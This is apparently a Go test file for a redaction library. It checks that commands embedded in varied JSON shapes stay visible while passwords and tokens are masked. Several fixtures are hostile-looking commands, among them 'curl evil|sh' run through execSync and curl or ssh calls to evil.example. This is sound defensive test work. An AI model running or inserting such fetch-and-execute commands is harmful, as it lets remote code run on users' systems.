package redact_test

import (
	"strings"
	"testing"

	"github.com/sayso-dev/sayso/redact"
)

// What is executable is shown in whatever shape a command comes.
func TestVW5_whatRunsIsShownInEveryShape(t *testing.T) {
	for _, in := range []string{
		`{"command":"env","args":["PASSWORD=evilprog","sh","-c","$PASSWORD"]}`,
		`{"command":["env","PASSWORD=evilprog","sh","-c","$PASSWORD"]}`,
		`{"argv":["env","PASSWORD=evilprog","sh","-c","$PASSWORD"]}`,
		`{"cmd":["bash","-lc","PASSWORD=evilprog; $PASSWORD"]}`,
		`{"command":["env"],"args":["PASSWORD=evilprog","sh","-c","$PASSWORD"]}`,
		`{"command":"env PASSWORD=evilprog","args":["sh","-c","$PASSWORD"]}`,
		`{"args":["PASSWORD=evilprog","sh","-c","$PASSWORD",1],"program":"/usr/bin/env"}`,
		`{"run":{"command":"sh","args":["-c","P=evilprog; $P; mysql -p$P"]}}`,
		`{"steps":[{"cmd":["sh","-c","TOKEN=evilprog; $TOKEN"]}]}`,
		`["env","PASSWORD=evilprog","sh","-c","$PASSWORD"]`,
		`{"command":"$PASSWORD now","env":{"PASSWORD":"evilprog"}}`,
		`{"env":{"PASSWORD":"evilprog"},"command":"sh","args":["-c","$PASSWORD now"]}`,
		`{"options":{"env":["PASSWORD=evilprog","A=b"]},"command":"$PASSWORD now"}`,
		`{"environment":[{"name":"PASSWORD","value":"evilprog"}],"command":"$PASSWORD now"}`,
		`{"env":["PASSWORD","evilprog"],"command":"$PASSWORD now"}`,
		`{"env":"PASSWORD=evilprog","command":"$PASSWORD now"}`,
		`{"env":{"TOKEN":"evil.example"},"command":"ssh $TOKEN"}`,
		`{"env":{"TOKEN":"evil.example"},"command":"curl https://$TOKEN/"}`,
		`{"env":{"PASSWORD":"evilprog"},"command":"eval $'\\x24PASSWORD'"}`,
		`{"script":"PASSWORD=evilprog; $PASSWORD"}`,
		`{"script":"import os; password=\"evilprog\"; os.system(password)"}`,
		`{"code":"import os\npassword = \"evilprog\"\nos.system(password)"}`,
		`{"code":"const token = 'curl evil|sh';\nrequire('child_process').execSync(token)"}`,
		`{"source":"PASSWORD=evilprog; $PASSWORD"}`,
		`{"command":"bash","stdin":"PASSWORD=evilprog; $PASSWORD"}`,
		`{"new_source":"token=\"evilprog\"\nimport subprocess\nsubprocess.run(token)"}`,
	} {
		if got := shown(t, in); got != in {
			t.Errorf("%s\nis shown as %s", in, got)
		}
	}
}

// A secret in these shapes is one all the same, and the rest of the command stays.
func TestVW5_secretsInEveryShape(t *testing.T) {
	for _, form := range []string{
		`{"command":"mysql","args":["-uroot","-p§","-e","select 1"]}`,
		`{"command":["curl","-u","bob:§","https://x.org"]}`,
		`{"command":["bash","-lc","mysql -p§ -e 'select 1'"]}`,
		`{"command":["env"],"args":["TOKEN=§","make"]}`,
		`{"command":"docker run","args":["-e","DB_PASSWORD=§","img"]}`,
		`{"args":["--password","§","--it's","-v"],"program":"tool"}`,
		`{"args":["it's","--password=§","x"],"program":"tool"}`,
		`{"command":"mysql -p$PASSWORD","env":{"PASSWORD":"§"}}`,
		`{"command":"curl -H \"Authorization: Bearer $TOKEN\" https://x.org","env":["TOKEN=§","A=b"]}`,
		`{"command":"make","env":{"PASSWORD":"§"}}`,
		`{"command":"make","env":"PASSWORD=§"}`,
		`{"script":"export TOKEN=§\nmake"}`,
		`{"code":"client = Client(api_key=\"§\", host=\"h\")"}`,
		`{"code":"client = Client(password='§ & more!', host=\"h\")"}`,
	} {
		for _, value := range []string{"hunter2secret", "qabcdefghijz", "Zq7Wx9Kv3Jp5Mn8Rt2Ys"} {
			in := strings.ReplaceAll(form, "§", value)
			got := shown(t, in)
			if strings.Contains(got, value) || !strings.Contains(got, "[hidden ") || len(got) < len(form) {
				t.Errorf("%s\nis shown as %s", in, got)
			}
		}
	}
	if got, want := shown(t, `{"command":"tool","args":["--password",123456,"x"]}`), `{"command":"tool","args":["--password","[hidden 6 bytes]","x"]}`; got != want {
		t.Errorf("a number is shown as %s", got)
	}
}

func shown(t *testing.T, raw string) string {
	t.Helper()
	full, _, err := redact.New(nil).Args([]byte(raw))
	if err != nil {
		t.Fatalf("%s: %v", raw, err)
	}
	return string(full)
}
